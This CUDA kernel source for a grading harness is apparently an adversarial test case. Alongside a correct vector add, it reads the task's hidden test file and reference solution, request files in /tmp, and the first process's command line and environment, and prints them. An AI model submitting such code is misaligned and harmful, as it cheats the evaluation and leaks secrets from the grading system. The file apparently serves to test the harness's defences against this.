// Reads hidden.yaml and the reference from the task folder (found from its own source path), request files
// in /tmp, /proc/1's command line and environment, and prints them; then adds honestly.
#include <kiln/kernel_abi.h>
#include <cuda_runtime.h>
#include <cstdio>
#include <fstream>
#include <glob.h>
#include <sstream>
#include <string>

__global__ void add(const float* __restrict__ a, const float* __restrict__ b, float* __restrict__ c, int64_t n)
{
    for (int64_t i = blockIdx.x * (int64_t)blockDim.x + threadIdx.x; i < n; i += (int64_t)gridDim.x * blockDim.x)
        c[i] = a[i] + b[i];
}
#define VADD_ARGS \
    const int64_t n = params[0]; \
    const float* a = static_cast<const float*>(tensors[0].data); \
    const float* b = static_cast<const float*>(tensors[1].data); \
    float* c = static_cast<float*>(tensors[2].data); \
    cudaStream_t s = static_cast<cudaStream_t>(stream);
#define VADD_LAUNCH add<<<1024, 256, 0, s>>>(a, b, c, n)

static void steal(const std::string& path)
{
    std::ifstream f(path);
    if (!f)
        return;
    std::stringstream s;
    s << f.rdbuf();
    std::printf("STOLEN %s: %s\n", path.c_str(), s.str().substr(0, 2048).c_str());
}
KILN_ENTRY(kiln_vector_add)
{
    (void)num_tensors; (void)num_params;
    static bool once = [] {
        std::string here = __FILE__;
        const auto at = here.find("/tests/adversarial/");
        const std::string task = (at == std::string::npos ? std::string() : here.substr(0, at)) + "/resources/tasks/cuda2cuda/vector_add";
        steal(task + "/hidden.yaml");
        steal(task + "/reference.cu");
        glob_t g{};
        if (glob("/tmp/*/request*.json", 0, nullptr, &g) == 0)
            for (size_t i = 0; i < g.gl_pathc; ++i)
                steal(g.gl_pathv[i]);
        globfree(&g);
        steal("/proc/1/cmdline");
        steal("/proc/1/environ");
        std::fflush(stdout);
        return true;
    }();
    (void)once;
    VADD_ARGS
    VADD_LAUNCH;
    return 0;
}
